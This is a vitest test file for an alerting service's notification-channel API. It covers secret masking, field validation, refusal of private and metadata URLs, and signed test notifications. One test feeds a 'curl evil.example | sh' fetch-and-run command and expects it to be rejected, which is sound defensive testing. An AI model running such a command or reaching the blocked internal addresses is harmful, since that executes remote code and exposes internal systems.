import { afterEach, describe, expect, it } from 'vitest';
import { SIGNATURE_HEADER, TIMESTAMP_HEADER, verifyWebhookSignature } from '../../channels/index.js';
import { SqliteStore } from '../../storage/sqlite/index.js';
import { startHttpReceiver } from '../../testing/start-http-receiver.js';
import type { HttpReceiver } from '../../testing/start-http-receiver.js';
import { startTestApps, TEST_ALERTING, TEST_NOW } from '../../testing/test-app.js';

const start = startTestApps();
const receivers: HttpReceiver[] = [];
afterEach(async () => {
  for (const r of receivers.splice(0)) await r.close();
});
async function receiver(...answers: Parameters<typeof startHttpReceiver>): Promise<HttpReceiver> {
  const r = await startHttpReceiver(...answers);
  receivers.push(r);
  return r;
}

const SECRET = 'a-signing-secret-0123';
const LOOPBACK = { ...TEST_ALERTING, policy: { allowPrivate: ['127.0.0.1'] }, retrainCommands: [['/opt/bothub/retrain.sh', '--queue', 'ml']] };
const webhook = (url: string, overrides: Record<string, unknown> = {}) => ({ name: 'ops', kind: 'webhook', severities: ['warning', 'critical'], url, secret: SECRET, ...overrides });

describe('channel routes', () => {
  it('creates, lists, reads, replaces and deletes channels; secrets are never answered', async () => {
    const { app } = await start({ alerting: LOOPBACK });
    const created = await app.inject({ method: 'POST', url: '/api/v1/channels', payload: webhook('http://127.0.0.1:9/hook') });
    expect(created.statusCode).toBe(201);
    const channel = created.json<Record<string, unknown>>();
    expect(channel).toMatchObject({ name: 'ops', kind: 'webhook', severities: ['warning', 'critical'], rateLimitPerMinute: 30, enabled: true, url: 'http://127.0.0.1:9/…(set)', hasSecret: true, routingKey: null, smtp: null, command: null });
    expect(created.body).not.toContain(SECRET);
    expect((await app.inject({ method: 'POST', url: '/api/v1/channels', payload: webhook('http://127.0.0.1:9/hook') })).json()).toMatchObject({ error: { code: 'channel_exists' } });

    const list = await app.inject({ method: 'GET', url: '/api/v1/channels' });
    expect(list.json()).toEqual({ channels: [channel] });
    expect((await app.inject({ method: 'GET', url: '/api/v1/channels/ops' })).json()).toEqual(channel);
    expect((await app.inject({ method: 'GET', url: '/api/v1/channels/nope' })).json()).toMatchObject({ error: { code: 'channel_not_found' } });

    // A replacement without the secret keeps it; the name cannot change.
    const replaced = await app.inject({ method: 'PUT', url: '/api/v1/channels/ops', payload: { name: 'ops', kind: 'webhook', severities: ['critical'], url: 'http://127.0.0.1:10/hook', rateLimitPerMinute: 5 } });
    expect(replaced.statusCode).toBe(200);
    expect(replaced.json()).toMatchObject({ id: channel.id, createdAt: channel.createdAt, severities: ['critical'], url: 'http://127.0.0.1:10/…(set)', rateLimitPerMinute: 5, hasSecret: true });
    const renamed = await app.inject({ method: 'PUT', url: '/api/v1/channels/ops', payload: webhook('http://127.0.0.1:9/hook', { name: 'other' }) });
    expect(renamed.json()).toMatchObject({ error: { code: 'validation_failed', details: { field: 'name' } } });
    expect((await app.inject({ method: 'PUT', url: '/api/v1/channels/nope', payload: webhook('http://127.0.0.1:9/hook', { name: 'nope' }) })).statusCode).toBe(404);

    expect((await app.inject({ method: 'DELETE', url: '/api/v1/channels/ops' })).statusCode).toBe(204);
    expect((await app.inject({ method: 'DELETE', url: '/api/v1/channels/ops' })).json()).toMatchObject({ error: { code: 'channel_not_found' } });
    expect((await app.inject({ method: 'GET', url: '/api/v1/channels' })).json()).toEqual({ channels: [] });
  });

  it('keeps URLs, routing keys and secrets out of every answer and, encrypted, out of the database', async () => {
    const { app, store } = await start({ alerting: LOOPBACK });
    const slackUrl = 'http://127.0.0.1:9/services/T000/B000/XXXXXXXXXXXXXXXX';
    const routingKey = 'R0UTINGKEY0123456789abcdef';
    const smtpPassword = 'smtp-password-0123';
    const answers = [
      await app.inject({ method: 'POST', url: '/api/v1/channels', payload: { name: 'slack', kind: 'slack', severities: ['critical'], url: slackUrl } }),
      await app.inject({ method: 'POST', url: '/api/v1/channels', payload: webhook(`${slackUrl}/hook`) }),
      await app.inject({ method: 'POST', url: '/api/v1/channels', payload: { name: 'pager', kind: 'pagerduty', severities: ['critical'], routingKey, url: 'http://127.0.0.1:9/v2/enqueue' } }),
      await app.inject({
        method: 'POST',
        url: '/api/v1/channels',
        payload: { name: 'mail', kind: 'email', severities: ['critical'], smtp: { host: '127.0.0.1', port: 2525, user: 'bothub', password: smtpPassword, from: 'b@example.com', to: ['o@example.com'] } },
      }),
    ];
    expect(answers.map((a) => a.statusCode)).toEqual([201, 201, 201, 201]);
    expect(answers[0]!.json()).toMatchObject({ url: 'http://127.0.0.1:9/…(set)' });
    expect(answers[2]!.json()).toMatchObject({ routingKey: '…(set)' });
    answers.push(await app.inject({ method: 'GET', url: '/api/v1/channels' }));
    for (const name of ['slack', 'ops', 'pager', 'mail']) answers.push(await app.inject({ method: 'GET', url: `/api/v1/channels/${name}` }));
    // Sent back as answered, the masked URL and routing key keep the stored ones.
    const slack = answers[0]!.json<Record<string, unknown>>();
    const resent = await app.inject({ method: 'PUT', url: '/api/v1/channels/slack', payload: { name: 'slack', kind: 'slack', severities: ['warning'], url: slack.url } });
    answers.push(resent);
    answers.push(await app.inject({ method: 'PUT', url: '/api/v1/channels/pager', payload: { name: 'pager', kind: 'pagerduty', severities: ['warning'], routingKey: '…(set)', url: 'http://127.0.0.1:9/v2/enqueue' } }));
    for (const answer of answers) for (const secret of [slackUrl, routingKey, smtpPassword, SECRET, 'XXXXXXXX']) expect(answer.body).not.toContain(secret);
    expect((await store.alerts.getChannel('slack'))?.channel.url).toBe(slackUrl);
    expect((await store.alerts.getChannel('pager'))?.channel.routingKey).toBe(routingKey);

    if (!(store instanceof SqliteStore)) throw new Error('createTestApp opens a SQLite store');
    const raw = JSON.stringify(store.database.prepare('SELECT * FROM channels').all());
    for (const secret of [slackUrl, routingKey, smtpPassword, SECRET, 'XXXXXXXX']) expect(raw).not.toContain(secret);
  });

  it('checks each kind\'s settings, naming the field', async () => {
    const { app } = await start({ alerting: LOOPBACK });
    const field = async (payload: Record<string, unknown>): Promise<unknown> => {
      const response = await app.inject({ method: 'POST', url: '/api/v1/channels', payload });
      expect(response.statusCode, response.body).toBe(400);
      return response.json<{ error: { details: { field: string } } }>().error.details.field;
    };
    const base = { name: 'c', severities: ['critical'] };
    expect(await field({ ...base, kind: 'slack' })).toBe('url');
    expect(await field({ ...base, kind: 'webhook' })).toBe('url');
    expect(await field({ ...base, kind: 'pagerduty' })).toBe('routingKey');
    expect(await field({ ...base, kind: 'email' })).toBe('smtp');
    expect(await field({ ...base, kind: 'retrain' })).toBe('url');
    expect(await field({ ...base, kind: 'retrain', url: 'http://127.0.0.1:9/', command: ['/opt/bothub/retrain.sh', '--queue', 'ml'] })).toBe('command');
    expect(await field({ ...base, kind: 'slack', url: 'http://127.0.0.1:9/', secret: SECRET })).toBe('secret');
    expect(await field({ ...base, kind: 'pagerduty', routingKey: 'k', smtp: { host: '127.0.0.1', port: 25, from: 'a@b.c', to: ['d@e.f'] } })).toBe('smtp');
    // Only an administrator's command runs, exactly as allowed.
    expect(await field({ ...base, kind: 'retrain', command: ['/bin/sh', '-c', 'curl evil.example | sh'] })).toBe('command');
    expect(await field({ ...base, kind: 'retrain', command: ['/opt/bothub/retrain.sh', '--queue'] })).toBe('command');
    expect(await field({ ...base, kind: 'webhook', url: 'ftp://127.0.0.1/' })).toBe('url');
    expect(await field({ ...base, kind: 'email', smtp: { host: '10.0.0.5', port: 25, from: 'a@b.c', to: ['d@e.f'] } })).toBe('smtp.host');

    const ok = async (payload: Record<string, unknown>): Promise<void> => {
      const response = await app.inject({ method: 'POST', url: '/api/v1/channels', payload });
      expect(response.statusCode, response.body).toBe(201);
    };
    await ok({ ...base, name: 'pd', kind: 'pagerduty', routingKey: 'R0UT1NGKEY' });
    await ok({ ...base, name: 'retrain', kind: 'retrain', command: ['/opt/bothub/retrain.sh', '--queue', 'ml'] });
    await ok({ ...base, name: 'mail', kind: 'email', smtp: { host: '127.0.0.1', port: 2525, from: 'bothub@example.com', to: ['ops@example.com'], password: 'p' } });
    const mail = (await app.inject({ method: 'GET', url: '/api/v1/channels/mail' })).json<Record<string, unknown>>();
    expect(mail).toMatchObject({ hasSecret: false, smtp: { host: '127.0.0.1', port: 2525, secure: false, user: null, from: 'bothub@example.com', to: ['ops@example.com'] } });
    expect(JSON.stringify(mail)).not.toContain('"password"');
  });

  it('refuses private, loopback and link-local destinations unless allowed, naming the address', async () => {
    const { app } = await start();
    for (const url of ['http://127.0.0.1:9/hook', 'http://169.254.169.254/latest/meta-data', 'http://[::1]/', 'http://10.1.2.3/', 'http://[::ffff:127.0.0.1]/']) {
      const response = await app.inject({ method: 'POST', url: '/api/v1/channels', payload: webhook(url) });
      expect(response.statusCode, url).toBe(400);
      expect(response.json(), url).toMatchObject({ error: { code: 'validation_failed', details: { field: 'url' } } });
      expect(response.json<{ error: { message: string } }>().error.message, url).toMatch(/refused: .* is in the \w+ range/);
    }
    const unresolved = await app.inject({ method: 'POST', url: '/api/v1/channels', payload: webhook('https://hooks.example.invalid/x') });
    expect(unresolved.json()).toMatchObject({ error: { code: 'validation_failed', details: { field: 'url' } } });
    expect((await app.inject({ method: 'POST', url: '/api/v1/channels', payload: webhook('https://8.8.8.8/hook') })).statusCode).toBe(201);
  });

  it('sends a test notification now and answers the outcome', async () => {
    const { app } = await start({ alerting: LOOPBACK });
    const up = await receiver({ status: 200, body: 'ok' });
    await app.inject({ method: 'POST', url: '/api/v1/channels', payload: webhook(`${up.origin}/hook`) });
    const sent = await app.inject({ method: 'POST', url: '/api/v1/channels/ops/test' });
    expect(sent.json()).toEqual({ ok: true, status: 200 });
    expect(up.requests).toHaveLength(1);
    const request = up.requests[0]!;
    expect(verifyWebhookSignature(SECRET, request.headers[TIMESTAMP_HEADER.toLowerCase()] as string, request.body, request.headers[SIGNATURE_HEADER.toLowerCase()] as string, { now: TEST_NOW })).toEqual({ ok: true });
    expect(JSON.parse(request.body)).toMatchObject({ event: 'firing', rule: { name: 'Channel test' }, url: 'https://bothub.test/', alert: { severity: 'warning', evidence: { reason: expect.stringContaining('test notification') as string } } });

    up.answer({ status: 503, headers: { 'retry-after': '7' }, body: 'down for maintenance' });
    expect((await app.inject({ method: 'POST', url: '/api/v1/channels/ops/test' })).json()).toEqual({ ok: false, retryable: true, error: 'HTTP 503: down for maintenance', retryAfterMs: 7000 });
    expect((await app.inject({ method: 'POST', url: '/api/v1/channels/nope/test' })).json()).toMatchObject({ error: { code: 'channel_not_found' } });
  });
});
